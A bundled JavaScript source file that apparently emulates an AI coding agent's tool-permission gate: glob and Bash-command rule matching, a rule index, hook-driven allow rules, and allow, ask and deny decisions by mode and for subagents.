		if (text.includes("(**)")) out.push(`hook '${hook}' asked to allow all of ${r.toolName}; san refuses a whole-tool rule from a hook`);
		else if (u.destination === "persistent") out.push(`hook '${hook}' writes allow rule ${text} into the project's settings (behavior ${JSON.stringify(u.behavior ?? "allow")} is ignored: san adds allow rules only)`);
		else out.push(`hook '${hook}' adds session allow rule ${text} for the calls after this one${u.behavior && u.behavior !== "allow" ? ` (behavior ${JSON.stringify(u.behavior)} is ignored: san adds allow rules only)` : ""}`);
	}
	else if (u.type === "addDirectories") out.push(`hook '${hook}' adds working directories ${u.directories.join(", ")} for the calls after this one`);
	else out.push(`hook '${hook}' sent a ${u.type} update, which san ignores`);
	return out;
}

// src/engines/san/match/glob.ts
/**
* san's glob for rule specifiers (`matchGlob` in internal/setting/permission.go),
* reimplemented from its documented behaviour:
* - `*` and `?` are plain wildcards over the whole string: `*` also crosses
*   `/` and spaces;
* - a pattern with exactly one `**` is split into a prefix the string must
*   start with and a suffix: a suffix with a wildcard is tried against the
*   basename and then against the rest after the prefix; a suffix without one
*   is a plain `endsWith`, so `**\/.env` also matches `/x/prod.env`;
* - a pattern with more than one `**` falls back to the plain wildcard.
*/
/** `*` any run of characters (possibly empty), `?` exactly one; everything else literal. */
function wildcard(str, pattern) {
	let s = 0;
	let p = 0;
	let star = -1;
	let mark = 0;
	while (s < str.length) if (p < pattern.length && (pattern[p] === "?" || pattern[p] === str[s])) {
		s++;
		p++;
	} else if (p < pattern.length && pattern[p] === "*") {
		star = p++;
		mark = s;
	} else if (star !== -1) {
		p = star + 1;
		s = ++mark;
	} else return false;
	while (p < pattern.length && pattern[p] === "*") p++;
	return p === pattern.length;
}
function matchGlob(str, pattern) {
	if (pattern === "") return str === "";
	if (pattern === "**") return true;
	if (pattern.includes("**")) {
		const parts = pattern.split("**");
		if (parts.length === 2) {
			const prefix = parts[0].replace(/\/$/, "");
			const suffix = parts[1].replace(/^\//, "");
			if (prefix !== "" && !str.startsWith(prefix)) return false;
			if (suffix === "") return true;
			if (!suffix.includes("*")) return str.endsWith(suffix);
			if (wildcard(str.slice(str.lastIndexOf("/") + 1), suffix)) return true;
			return wildcard(prefix !== "" ? str.slice(prefix.length).replace(/^\//, "") : str, suffix);
		}
	}
	if (pattern.includes("*") || pattern.includes("?")) return wildcard(str, pattern);
	return str === pattern;
}
function compile(pattern) {
	if (pattern === "") return (s) => s === "";
	if (pattern === "**") return () => true;
	if (pattern.includes("**")) return (s) => matchGlob(s, pattern);
	const star = pattern.indexOf("*");
	const q = pattern.indexOf("?");
	if (star < 0 && q < 0) return (s) => s === pattern;
	if (q < 0 && star === pattern.length - 1) {
		const lead = pattern.slice(0, -1);
		return (s) => s.startsWith(lead);
	}
	return (s) => wildcard(s, pattern);
}
/** The compiled form of `matchGlob(·, pattern)`, made once per pattern for the process (it depends on the pattern alone). */
const globMatcher = require_memo.byText(compile, 65536);

// src/engines/san/match/bash.ts
/** The wrappers san strips before matching (`safeWrapperCommands` in bash_ast.go). */
const SAN_WRAPPERS = /* @__PURE__ */ new Set([
	"timeout",
	"time",
	"nice",
	"nohup",
	"stdbuf"
]);
/** `DeclClause` variants: san keeps only the name. */
const DECL_BUILTINS = /* @__PURE__ */ new Set([
	"declare",
	"local",
	"export",
	"readonly",
	"typeset",
	"nameref"
]);
/** Constructs whose commands san's walker never reaches. */
const UNSEEN = [
	"payload",
	"command-substitution",
	"backticks",
	"process-substitution"
];
/** `looksLikeCommand`: not a flag, not a number, not a duration such as `30s`. */
function looksLikeCommand(s) {
	if (s === "" || s.startsWith("-")) return false;
	if (/^\d+$/.test(s)) return false;
	if (/^\d+[smhd]$/.test(s)) return false;
	return true;
}
/**
* `wordToString` over a word as written: literal text and quoted text
* verbatim, `$NAME`/`${NAME…}` as `$NAME`, `$(…)` and backticks as `$(...)`,
* any other expansion as `...`.
*/
function sanWord(raw) {
	let out = "";
	let i = 0;
	let dq = false;
	while (i < raw.length) {
		const c = raw[i];
		if (!dq && c === "'") {
			const end = raw.indexOf("'", i + 1);
			out += raw.slice(i + 1, end < 0 ? raw.length : end);
			i = end < 0 ? raw.length : end + 1;
		} else if (c === "$" && !dq && (raw[i + 1] === "'" || raw[i + 1] === "\"")) i++;
		else if (c === "\"") {
			dq = !dq;
			i++;
		} else if (c === "\\" && i + 1 < raw.length) {
			out += raw.slice(i, i + 2);
			i += 2;
		} else if (c === "`") {
			const end = raw.indexOf("`", i + 1);
			out += "$(...)";
			i = end < 0 ? raw.length : end + 1;
		} else if (c === "$" && raw[i + 1] === "(") {
			const arithmetic = raw[i + 2] === "(";
			i = closing(raw, i + 1);
			out += arithmetic ? "..." : "$(...)";
		} else if (c === "$" && raw[i + 1] === "{") {
			const end = raw.indexOf("}", i + 2);
			const body = raw.slice(i + 2, end < 0 ? raw.length : end);
			out += `$${/^[A-Za-z_][A-Za-z0-9_]*|^[0-9@*#?$!-]/.exec(body)?.[0] ?? ""}`;
			i = end < 0 ? raw.length : end + 1;
		} else if (c === "$" && /[A-Za-z_0-9@*#?$!-]/.test(raw[i + 1] ?? "")) {
			const m = /^[A-Za-z_][A-Za-z0-9_]*|^[0-9@*#?$!-]/.exec(raw.slice(i + 1));
			out += `$${m[0]}`;
			i += 1 + m[0].length;
		} else if (!dq && (c === "<" || c === ">") && raw[i + 1] === "(") {
			i = closing(raw, i + 1);
			out += "...";
		} else {
			out += c;
			i++;
		}
	}
	return out;
}
/** Index just past the `)` that closes the `(` at `open`. */
function closing(raw, open) {
	let depth = 0;
	for (let i = open; i < raw.length; i++) if (raw[i] === "(") depth++;
	else if (raw[i] === ")" && --depth === 0) return i + 1;
	return raw.length;
}
const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*(\[[^\]]*\])?\+?=/;
/**
* The words of a simple command's source text, as written (quotes and
* backslashes kept), without leading assignments and redirections; undefined
* when the text holds something this small splitter does not follow.
*/
function sourceWords(text) {
	const words = [];
	let i = 0;
	const n = text.length;
	const skipSpace = () => {
		while (i < n && (text[i] === " " || text[i] === "	")) i++;
	};
	const word = () => {
		const start = i;
		while (i < n) {
			const c = text[i];
			if (c === "\\") {
				i += 2;
				continue;
			}
			if (c === "'") {
				const end = text.indexOf("'", i + 1);
				if (end < 0) return void 0;
				i = end + 1;
				continue;
			}
			if (c === "\"") {
				i++;
				while (i < n && text[i] !== "\"") i += text[i] === "\\" ? 2 : 1;
				if (i >= n) return void 0;
				i++;
				continue;
			}
			if (c === "`") {
				const end = text.indexOf("`", i + 1);
				if (end < 0) return void 0;
				i = end + 1;
				continue;
			}
			if ((c === "$" || c === "<" || c === ">") && text[i + 1] === "(") {
				i = closing(text, i + 1);
				continue;
			}
			if (c === "$" && text[i + 1] === "{") {
				const end = text.indexOf("}", i + 2);
				if (end < 0) return void 0;
				i = end + 1;
				continue;
			}
			if (/[\s;&|<>()]/.test(c)) break;
			i++;
		}
		return text.slice(start, i);
	};
	let seenCommand = false;
	while (true) {
		skipSpace();
		if (i >= n) break;
		const rest = text.slice(i);
		const redir = /^(\d*|&)(>>|>&|>\||&>>|&>|<<<|<<-|<<|<&|<>|>|<)/.exec(rest);
		if (redir && !/^[<>]\(/.test(rest)) {
			if (redir[2].startsWith("<<") && redir[2] !== "<<<") return void 0;
			i += redir[0].length;
			skipSpace();
			if (word() === void 0) return void 0;
			continue;
		}
		if (/^[;&|()\n]/.test(rest)) return void 0;
		const w = word();
		if (w === void 0 || w === "") return void 0;
		if (!seenCommand && ASSIGNMENT.test(w)) continue;
		seenCommand = true;
		words.push(w);
	}
	return words;
}
/**
* The words of a segment as san prints them (`wordToString`): from the
* source text when it splits cleanly into as many words as the analyzer
* found (so backslashes stay, as in mvdan's literals); otherwise literal
* words as analysed and expanded ones through `sanWord`.
*/
function sanWords(seg) {
	const joined = seg.text.replace(/\\\n/g, "");
	const src = sourceWords(joined);
	if (src && (src.length === seg.rawArgv.length || joined !== seg.text)) return src.map(sanWord);
	const off = seg.rawArgv.length - seg.argv.length;
	const aligned = off >= 0 && seg.argv.every((w, i) => w === seg.rawArgv[off + i]);
	return seg.rawArgv.map((w, i) => {
		return (aligned && i >= off ? seg.dynamicWords.includes(i - off) : /[$`]|^["']|[<>]\(/.test(w)) ? sanWord(w) : w;
	});
}
/** `extractFromCall`: path stripped, san's five wrappers (and their flags) skipped. */
function sanPeel(words) {
	if (words.length === 0) return void 0;
	let name = require_shell.programName(words[0]);
	let args = words.slice(1);
	while (SAN_WRAPPERS.has(name) && args.length > 0) {
		while (args.length > 0 && !looksLikeCommand(args[0])) args = args.slice(1);
		if (args.length === 0) break;
		name = require_shell.programName(args[0]);
		args = args.slice(1);
	}
	return {
		name,
		args
	};
}
const CODE_REDIRECT_OPS = /* @__PURE__ */ new Set([
	">",
	">>",
	"&>",
	"&>>"
]);
function seen(seg) {
	return !seg.nesting.some((n) => UNSEEN.includes(n));
}
/** `extractCommandsAST` over the ground-truth analysis. */
function sanReading(shell) {
	if (shell.opaque.some((o) => o.reason === "parse-error")) return {
		command: shell.input,
		commands: void 0
	};
	const out = [];
	const top = shell.segments.filter(seen);
	top.forEach((seg, i) => {
		const peeled = sanPeel(sanWords(seg));
		if (!peeled) return;
		const next = top[i + 1];
		const decl = DECL_BUILTINS.has(peeled.name);
		out.push({
			name: peeled.name,
			args: decl ? [] : peeled.args,
			inPipe: seg.operator === "|" || seg.operator === "|&" || next?.operator === "|" || next?.operator === "|&",
			redirects: seg.redirects.filter((r) => CODE_REDIRECT_OPS.has(r.op)).map((r) => r.target ?? "$").filter((t) => t !== ""),
			segment: seg
		});
	});
	return {
		command: shell.input,
		commands: out
	};
}
/** The commands san sees, or none (a parse failure, or nothing but assignments). */
function parsedCommands(r) {
	return r.commands ?? [];
}
let lastPieces;
/** `extractBashCommands`: the text split on `&&`, then on `;`, trimmed (the last command's pieces are kept: the gate, the floor and the forms all ask). */
function rawPieces(command) {
	if (lastPieces?.command === command) return lastPieces.pieces;
	const pieces = splitPieces(command);
	lastPieces = {
		command,
		pieces
	};
	return pieces;
}
function splitPieces(command) {
	if (!command.includes(";") && !command.includes("&&")) {
		const t = command.trim();
		return t === "" ? [] : [t];
	}
	return command.split("&&").flatMap((p) => p.split(";")).map((p) => p.trim()).filter((p) => p !== "");
}
/** `normalizeBashCommand`: the first space-separated word's basename, then `:` and the rest. */
function normalizeRaw(piece) {
	const t = piece.trim();
	const sp = t.indexOf(" ");
	if (sp === -1) return require_shell.programName(t);
	return `${require_shell.programName(t.slice(0, sp))}:${t.slice(sp + 1)}`;
}
/** `parsedCommand.String()`. */
function plainForm(c) {
	return c.args.length === 0 ? c.name : `${c.name} ${c.args.join(" ")}`;
}
/** `normalizeParsedCommand`. */
function normalized(c) {
	return c.args.length === 0 ? c.name : `${c.name}:${c.args.join(" ")}`;
}
/** `normalizedBashCommands`: the parsed commands normalised, or the raw pieces when there are none. */
function normalizedCommands(r) {
	let n = normalizedOf.get(r);
	if (!n) normalizedOf.set(r, n = computeNormalized(r));
	return n;
}
const normalizedOf = /* @__PURE__ */ new WeakMap();
function computeNormalized(r) {
	const parsed = parsedCommands(r).map(normalized).filter((n) => n !== "");
	if (parsed.length > 0) return parsed;
	return rawPieces(r.command).map(normalizeRaw).filter((n) => n !== "");
}
const formsOf = /* @__PURE__ */ new WeakMap();
/** Every form a deny or ask rule is tried on (`bashRuleForms`); computed once per reading, which never changes. */
function denyForms(r) {
	let forms = formsOf.get(r);
	if (!forms) formsOf.set(r, forms = formsFrom(rawPieces(r.command), normalizedCommands(r)));
	return forms;
}
/** The pieces, then the normalised commands, each form once in first-seen order, none empty (a Set only for long lists). */
function formsFrom(pieces, norms) {
	if (pieces.length + norms.length > 8) return [.../* @__PURE__ */ new Set([...pieces, ...norms])].filter((f) => f !== "");
	const out = [];
	for (const f of pieces) if (f !== "" && !out.includes(f)) out.push(f);
	for (const f of norms) if (f !== "" && !out.includes(f)) out.push(f);
	return out;
}
const unitsOf = /* @__PURE__ */ new WeakMap();
/** The units an allow rule set must cover; computed once per reading. */
function allowUnits(r) {
	let units = unitsOf.get(r);
	if (!units) unitsOf.set(r, units = computeAllowUnits(r));
	return units;
}
function computeAllowUnits(r) {
	const parsed = parsedCommands(r);
	if (parsed.length > 0) return parsed.map((c) => {
		const plain = plainForm(c);
		const norm = normalized(c);
		return {
			forms: norm !== plain ? [plain, norm] : [plain],
			command: c,
			plain,
			text: plain
		};
	});
	return rawPieces(r.command).map((p) => {
		const norm = normalizeRaw(p);
		return {
			forms: norm !== p ? [p, norm] : [p],
			text: p
		};
	});
}
/** The seed's multi-word `prefix:*` (a divergence from the code, kept: seed 002). */
function seedPrefix(args) {
	if (!args.endsWith(":*")) return void 0;
	const prefix = args.slice(0, -2);
	return /\S\s+\S/.test(prefix) ? prefix.trim() : void 0;
}
/** The seed prefix test of a rule argument, read once per argument (it depends on the text alone); null when it has none. */
const seedTest = require_memo.byText((args) => {
	const prefix = seedPrefix(args);
	if (prefix === void 0) return null;
	if (!prefix.includes("*") && !prefix.includes("?")) {
		const spaced = `${prefix} `;
		return (j) => j === prefix || j.startsWith(spaced);
	}
	const spaced = `${prefix} *`;
	return (j) => wildcard(j, prefix) || wildcard(j, spaced);
}, 65536);
/** `MatchesToolPattern` for Bash: any form; plus the seed's multi-word prefix over the parsed commands. */
function matchAny(args, r) {
	if (r.command === "") return matchGlob("", args) ? {
		form: "",
		seedOnly: false
	} : void 0;
	const glob = globMatcher(args);
	for (const f of denyForms(r)) if (glob(f)) return {
		form: f,
		seedOnly: false,
		...commandOf(r, f) ?? {}
	};
	const test = seedTest(args);
	if (test !== null) {
		for (const u of allowUnits(r)) if (u.command && test(u.plain)) return {
			form: u.plain,
			seedOnly: true,
			command: u.command
		};
	}
}
function commandOf(r, form) {
	const c = parsedCommands(r).find((x) => normalized(x) === form || plainForm(x) === form);
	return c ? { command: c } : void 0;
}
/** Does an allow rule cover one unit (either form; or the seed's multi-word prefix)? */
function coversUnit(args, u) {
	const glob = globMatcher(args);
	if (u.forms.some((f) => glob(f))) return { seedOnly: false };
	if (u.command) {
		const test = seedTest(args);
		if (test !== null && test(u.plain)) return { seedOnly: true };
	}
}
/** A plain name, then plain words, each after one space: the two tests above over the whole text at once. */
const PLAIN_COMMAND = new RegExp(`^${/^[a-z][a-z0-9_-]*$/.source.slice(1, -1)}(?: ${/^[A-Za-z0-9_.\/@%+,:-]+$/.source.slice(1, -1)})*$`);
/** Words the shell or its grammar read as syntax in some position (repairs.ts's keyword sets, and more). */
const RESERVED = /* @__PURE__ */ new Set([
	"!",
	"{",
	"}",
	"[[",
	"]]",
	"if",
	"then",
	"else",
	"elif",
	"fi",
	"do",
	"done",
	"case",
	"esac",
	"for",
	"select",
	"while",
	"until",
	"in",
	"function",
	"time",
	"coproc"
]);
/**
* san's reading of a command made only of plain words, without the
* tree-sitter analysis: one simple command, not in a pipe, no redirect,
* exactly what `sanReading(analyzeShell(command))` gives for it (a property
* test compares them), less the ground-truth segment. Undefined for anything
* else: a wrapper (whale-perm's or san's own), a declaration builtin, a
* reserved word anywhere, any character outside PLAIN_WORD, or a space that
* is not a single separator. Matching and the decision read nothing else
* (call-view.ts); the trace's segment rows, risks and matches are read over
* the analysis, with its segments.
*/
function plainReading(command, wrappers) {
	if (command.length === 0 || command.length > 512 || !PLAIN_COMMAND.test(command)) return void 0;
	const words = command.split(" ");
	const name = words[0];
	if (SAN_WRAPPERS.has(name) || DECL_BUILTINS.has(name)) return void 0;
	if (Object.hasOwn(wrappers, name) || Object.hasOwn(wrappers, name.slice(1))) return void 0;
	for (const w of words) if (RESERVED.has(w)) return void 0;
	if (require_shell.plainWordsRunPayloads(words)) return void 0;
	return {
		command,
		commands: [{
			name,
			args: words.slice(1),
			inPipe: false,
			redirects: []
		}]
	};
}

// src/engines/san/match/rule-index.ts
/**
* A rule index for san's matcher, so that one evaluation costs time in the
* number of rules that could match it rather than in the size of the stack.
*
* It never decides anything: it only narrows a rule list to a superset of
* the rules that can match (the candidates, in the list's own order), and
* the caller runs the plain matcher (./bash.ts, ./glob.ts) on each of them.
* So the first matching rule, and every decision, stay exactly what the
* plain scan gives (test/engines/san/rule-index.property.test.ts).
*
* The narrowing: every string san's `matchGlob` accepts starts with the
* pattern's literal lead (the text before the first `*` or `?`, or the
* literal prefix of a single `**`); the seed's multi-word `prefix:*` needs
* the command to start with the prefix's lead. The leads go into a
* radix tree per tool (`LeadTrie`); a query walks it along each form of the
* call and collects the rules on the way.
*/
/** The literal text every string `matchGlob(str, pattern)` accepts starts with. */
function globLead(pattern) {
	if (pattern === "" || pattern === "**") return "";
	if (pattern.includes("**")) {
		const parts = pattern.split("**");
		if (parts.length === 2) return parts[0].replace(/\/$/, "");
	}
	return wildcardLead(pattern);
}
/** The literal text every string `wildcard(str, pattern)` accepts starts with. */
function wildcardLead(pattern) {
	const w = pattern.search(/[*?]/);
	return w < 0 ? pattern : pattern.slice(0, w);
}
/** The lead of the seed's multi-word `prefix:*` (`seedPrefix` in ./bash.ts), or undefined. */
function seedLead(args) {
	if (!args.endsWith(":*")) return void 0;
	const prefix = args.slice(0, -2);
	return /\S\s+\S/.test(prefix) ? wildcardLead(prefix.trim()) : void 0;
}
/** The leads under which a Bash rule is filed: its glob's, and the seed prefix's. */
function bashLeads(args) {
	const s = seedLead(args);
	return s === void 0 ? [globLead(args)] : [globLead(args), s];
}
/** A lead ending at `i` whose last unit is a high surrogate stops inside the character `str` has there (see `collect`). */
function splitsPair(str, i) {
	if (i === 0 || i >= str.length) return false;
	const hi = str.charCodeAt(i - 1);
	const lo = str.charCodeAt(i);
	return hi >= 55296 && hi <= 56319 && lo >= 56320 && lo <= 57343;
}
/**
* Items filed under literal leads; a query returns those whose lead starts
* the query string. A radix tree: a run of characters no other lead
* branches from is one node, so filing a lead and walking a query cost one
* step per branching point rather than one map per character.
*/
var LeadTrie = class {
	root = {
		label: "",
		at: []
	};
	add(lead, position) {
		let n = this.root;
		let i = 0;
		while (i < lead.length) {
			const c = lead.charCodeAt(i);
			const k = n.kids?.get(c);
			if (!k) {
				const leaf = {
					label: lead.slice(i),
					at: []
				};
				(n.kids ??= /* @__PURE__ */ new Map()).set(c, leaf);
				n = leaf;
				break;
			}
			const l = k.label;
			const max = Math.min(l.length, lead.length - i);
			let j = 1;
			while (j < max && l.charCodeAt(j) === lead.charCodeAt(i + j)) j++;
			if (j < l.length) {
				const mid = {
					label: l.slice(0, j),
					at: [],
					kids: /* @__PURE__ */ new Map([[l.charCodeAt(j), k]])
				};
				k.label = l.slice(j);
				n.kids.set(c, mid);
				n = mid;
			} else n = k;
			i += j;
		}
		if (n.at[n.at.length - 1] !== position) n.at.push(position);
	}
	/**
	* Adds to `into` the positions filed under every prefix of `str` (the
	* empty one included); repeats are left to the caller. Prefixes are taken
	* by whole characters, as the character trie this replaces did: a lead
	* whose last unit is a lone high surrogate does not start a string that
	* has a surrogate pair there.
	*/
	collect(str, into) {
		let n = this.root;
		for (const p of n.at) into.push(p);
		let i = 0;
		while (i < str.length) {
			const k = n.kids?.get(str.charCodeAt(i));
			if (!k) return;
			const l = k.label;
			if (l.length > 1 && !str.startsWith(l, i)) return;
			i += l.length;
			n = k;
			if (n.at.length > 0 && !splitsPair(str, i)) for (const p of n.at) into.push(p);
		}
	}
};
/** A rule list filed per tool by the leads of its arguments. */
var RuleIndex = class {
	rules;
	tries = /* @__PURE__ */ new Map();
	constructor(rules, leads) {
		this.rules = rules;
		rules.forEach((r, i) => {
			let t = this.tries.get(r.tool);
			if (!t) this.tries.set(r.tool, t = new LeadTrie());
			for (const l of leads(r)) t.add(l, i);
		});
	}
	/** The rules of `tool` that could match one of `queries`, in list order. */
	candidates(tool, queries) {
		const t = this.tries.get(tool);
		if (!t) return [];
		const found = [];
		for (const q of queries) t.collect(q, found);
		if (found.length === 0) return [];
		if (found.length === 1) return [this.rules[found[0]]];
		found.sort((a, b) => a - b);
		const out = [];
		let last = -1;
		for (const i of found) {
			if (i === last) continue;
			last = i;
			out.push(this.rules[i]);
		}
		return out;
	}
};
/** Below this many rules a plain scan is as fast as a lookup. */
const SMALL = 8;
const cache = /* @__PURE__ */ new WeakMap();
/**
* The index of `rules` under `kind` (how leads are drawn), built once per
* list for the process. A list is never changed once the stack is loaded;
* a changed length rebuilds it all the same.
*/
function indexOf(rules, kind, leads) {
	let byKind = cache.get(rules);
	if (!byKind) cache.set(rules, byKind = /* @__PURE__ */ new Map());
	const hit = byKind.get(kind);
	if (hit && hit.length === rules.length) return hit.index;
	const index = new RuleIndex(rules, leads);
	byKind.set(kind, {
		length: rules.length,
		index
	});
	return index;
}
/** The strings any Bash rule is matched against for one reading (forms, and the commands the seed prefix reads). */
function readingQueries(r) {
	if (r.command === "") return [""];
	let q = queriesOf.get(r);
	if (!q) queriesOf.set(r, q = [...denyForms(r), ...parsedCommands(r).map(plainForm)]);
	return q;
}
const queriesOf = /* @__PURE__ */ new WeakMap();
/** The leads a rule is filed under for `ruleCandidates`: its glob's, and a Bash rule's seed prefix. */
function ruleLeads(r) {
	return r.tool === "Bash" ? bashLeads(r.args) : [globLead(r.args)];
}
/** Rules of `tool` (filed by their glob leads, Bash rules also by the seed prefix) that could match one of `queries`. */
function ruleCandidates(rules, tool, queries) {
	if (rules.length <= 8) return rules.filter((r) => r.tool === tool);
	return indexOf(rules, "rule", ruleLeads).candidates(tool, queries);
}

// src/engines/san/match/rules.ts
/**
* Matching settings and session rules against a call as san's gate does
* (`MatchesToolPattern`, `MatchAllowList` in internal/setting/permission.go),
* over san's own reading of a Bash command (./bash.ts).
*/
/** Non-Bash tools: the rule's argument is a san glob over the call's subject (`BuildRule`), the tool name compared exactly. */
function subjectMatches(rule, tool, input) {
	return rule.tool === tool && matchGlob(ruleSubject(tool, input), rule.args);
}
/** Deny and ask: the first rule (in order) that matches any form of the command. */
function bashAny(rules, reading) {
	return bashAnyOver(ruleCandidates(rules, "Bash", readingQueries(reading)), reading);
}
/** `bashAny` by a plain scan of every rule (the reference the index is tested against). */
function bashAnyOver(rules, reading) {
	for (const rule of rules) {
		if (rule.tool !== "Bash") continue;
		const match = matchAny(rule.args, reading);
		if (match) return {
			rule,
			match
		};
	}
}
/** Allow: every command san reads must be covered (`MatchAllowList`). */
function bashEvery(rules, reading) {
	return coverOver(rules, reading, (u) => ruleCandidates(rules, "Bash", unitQueries(u)));
}
/** The strings an allow rule is tried on for one unit: its forms, and the command the seed prefix reads (`u.plain`, which is its first form). */
function unitQueries(u) {
	return u.forms;
}
function coverOver(rules, reading, candidatesFor) {
	const units = reading.command.trim() === "" ? [] : allowUnits(reading);
	let seedOnly = false;
	const perUnit = units.map((u) => {
		for (const r of candidatesFor(u)) {
			const c = coversUnit(r.args, u);
			if (c) {
				if (c.seedOnly) seedOnly = true;
				return r;
			}
		}
	});
	const covered = units.length > 0 && perUnit.every((r) => r !== void 0);
	const first = perUnit.find((r) => r !== void 0);
	return {
		covered,
		units,
		perUnit,
		seedOnly,
		...first ? { first } : {}
	};
}
/** `MatchesToolPattern`: for Bash, any form of the command; else the subject. `codeOnly` leaves out the seed's multi-word prefix reading. */
function ruleMatches(rule, tool, input, reading, codeOnly = false) {
	if (rule.tool !== tool) return false;
	if (tool === "Bash" && reading) {
		const m = matchAny(rule.args, reading);
		return m !== void 0 && !(codeOnly && m.seedOnly);
	}
	return matchGlob(ruleSubject(tool, input), rule.args);
}
/** The first rule (in order) that `ruleMatches` the call, found through the rule index. */
function firstMatching(rules, tool, input, reading, codeOnly = false) {
	const queries = tool === "Bash" && reading ? readingQueries(reading) : [ruleSubject(tool, input)];
	return ruleCandidates(rules, tool, queries).find((r) => ruleMatches(r, tool, input, reading, codeOnly));
}
/** The first rule (in order) that `subjectMatches` the call, found through the rule index. */
function firstSubjectMatch(rules, tool, input) {
	return ruleCandidates(rules, tool, [ruleSubject(tool, input)]).find((r) => subjectMatches(r, tool, input));
}
/** `MatchAllowList`: for Bash every command must be covered; returns the first rule used. */
function allowListMatch(rules, tool, input, reading, codeOnly = false) {
	if (rules.length === 0) return void 0;
	if (tool === "Bash" && reading) {
		const c = bashEvery(rules, reading);
		return c.covered && !(codeOnly && c.seedOnly) ? c.first : void 0;
	}
	return firstMatching(rules, tool, input, reading);
}
/**
* Every deny or ask rule (in order) that matches any form of the command:
* the same test as `bashAny` (`matchAny` over the rule index's candidates),
* not stopped at the first. `bashAny` is its first element.
*/
function bashAll(rules, reading) {
	const out = [];
	for (const rule of ruleCandidates(rules, "Bash", readingQueries(reading))) {
		if (rule.tool !== "Bash") continue;
		const match = matchAny(rule.args, reading);
		if (match) out.push({
			rule,
			match
		});
	}
	return out;
}
/** Every rule (in order) that `subjectMatches` the call; `firstSubjectMatch` is its first element. */
function subjectAll(rules, tool, input) {
	return ruleCandidates(rules, tool, [ruleSubject(tool, input)]).filter((r) => subjectMatches(r, tool, input));
}
/**
* For each allow rule that covers at least one unit san reads, the units it
* covers (indexes into `units`): the same `coversUnit` test `bashEvery`
* makes, over the same candidates, without stopping at a unit's first rule.
*/
function bashCovers(rules, reading) {
	const units = reading.command.trim() === "" ? [] : allowUnits(reading);
	const covers = /* @__PURE__ */ new Map();
	units.forEach((u, i) => {
		for (const r of ruleCandidates(rules, "Bash", unitQueries(u))) {
			if (r.tool !== "Bash" || !coversUnit(r.args, u)) continue;
			const l = covers.get(r);
			if (l) l.push(i);
			else covers.set(r, [i]);
		}
	});
	return {
		units,
		covers
	};
}
/** Does one allow pattern cover some command san reads (the part of `MatchAllowList` one rule can do)? */
function coversSome(args, reading) {
	if (reading.command.trim() === "") return false;
	return allowUnits(reading).some((u) => coversUnit(args, u));
}

// src/engines/san/stack.ts
const effective = /* @__PURE__ */ new WeakMap();
/**
* The rules evaluation uses: each entry once (the merge is a union without
* duplicates). Computed once per rule list and action for the process (so
* the rule index built over it is too): do not change the list returned.
*/
function effectiveRules(stack, action) {
	let e = effective.get(stack.rules);
	if (!e || e.length !== stack.rules.length) effective.set(stack.rules, e = {
		length: stack.rules.length,
		lists: /* @__PURE__ */ new Map()
	});
	const key = action ?? "";
	let list = e.lists.get(key);
	if (!list) e.lists.set(key, list = stack.rules.filter((r) => r.duplicateOf === void 0 && (action === void 0 || r.action === action)));
	return list;
}

// src/engines/san/code-order.ts
/** `ResolveHookAllow` with the code's matcher. */
function codeHonoursHookAllow(s) {
	const input = s.call.input;
	if (firstMatching(effectiveRules(s.stack, "deny"), s.tool, input, s.reading, true)) return false;
	if (s.floor) return false;
	return !firstMatching(effectiveRules(s.stack, "ask"), s.tool, input, s.reading, true);
}
function modeDefault(s) {
	if (isSafeTool(s.tool)) return {
		decision: "allow",
		reason: "mode default: safe tool"
	};
	switch (s.mode.value) {
		case "bypassPermissions": return {
			decision: "allow",
			reason: "mode: bypass permissions"
		};
		case "acceptEdits": return isEditTool(s.tool) ? {
			decision: "allow",
			reason: "mode: accept edits"
		} : {
			decision: "ask",
			reason: "mode: accept edits requires confirmation"
		};
		case "plan": return {
			decision: "deny",
			reason: "mode: read-only"
		};
		case "dontAsk": return {
			decision: "deny",
			reason: "mode: don't ask"
		};
		default: return {
			decision: "ask",
			reason: "mode: default requires confirmation"
		};
	}
}
function coerce(s, v) {
	if (v.decision !== "ask") return v;
	if (s.mode.value === "dontAsk") return {
		decision: "deny",
		reason: `mode: don't ask (auto-deny): ${v.reason}`
	};
	if (s.nonInteractive) return {
		decision: "deny",
		reason: `headless: ${v.reason}`
	};
	return v;
}
/** `HasPermissionToUseTool`. */
function codeGate(s) {
	const input = s.call.input;
	const d = firstMatching(effectiveRules(s.stack, "deny"), s.tool, input, s.reading, true);
	if (d) return {
		decision: "deny",
		reason: `deny rule: ${d.text}`
	};
	if (s.floor) return coerce(s, {
		decision: "ask",
		reason: s.floor.tier === "working-directory" ? s.floor.reason : `bypass-immune: ${s.floor.reason}`
	});
	if (s.mode.value === "bypassPermissions") return {
		decision: "allow",
		reason: "mode: bypass permissions"
	};
	const session = s.stack.sessionRules;
	if (session.find((r) => r.wholeTool && r.tool === s.tool)) return {
		decision: "allow",
		reason: `session: allow all ${s.tool}`
	};
	const sp = allowListMatch(session.filter((r) => !r.wholeTool), s.tool, input, s.reading, true);
	if (sp) return {
		decision: "allow",
		reason: `session pattern: ${sp.text}`
	};
	const a = firstMatching(effectiveRules(s.stack, "ask"), s.tool, input, s.reading, true);
	if (a) return coerce(s, {
		decision: "ask",
		reason: `ask rule: ${a.text}`
	});
	const allow = allowListMatch(effectiveRules(s.stack, "allow"), s.tool, input, s.reading, true);
	if (allow) return {
		decision: "allow",
		reason: `allow rule: ${allow.text}`
	};
	return coerce(s, modeDefault(s));
}
/** `subagentPermissionFunc` at 5e33c937 with `modeChecker` (agent-definition allow_tools/deny_tools are not modelled: none assumed). */
function subagentGate(s) {
	if (s.floor && s.floor.tier === "unrecoverable") return {
		decision: "deny",
		reason: `tool ${s.tool} blocked: ${s.floor.reason}`
	};
	if (s.mode.value === "bypassPermissions") return {
		decision: "allow",
		reason: "bypass mode permits every worker tool"
	};
	if (isSafeTool(s.tool)) return {
		decision: "allow",
		reason: "mode default: safe tool"
	};
	if (s.mode.value === "acceptEdits" && isEditTool(s.tool)) return {
		decision: "allow",
		reason: "mode: accept edits"
	};
	return {
		decision: "deny",
		reason: `tool ${s.tool} would require approval; subagent denies it`
	};
}
function records(s, event) {
	return [...s.hookCache, ...s.hooks].filter((r) => r.hook.event === event && r.how !== "async" && r.how !== "skipped");
}
/** The code's decision, or undefined when it depends on a hook whose verdict is not known. */
function codeDecision(s) {
	if (s.unresolved.length > 0) return void 0;
	if (s.subagent) return subagentGate(s);
	const gate = codeGate(s);
	if (gate.decision !== "ask") return gate;
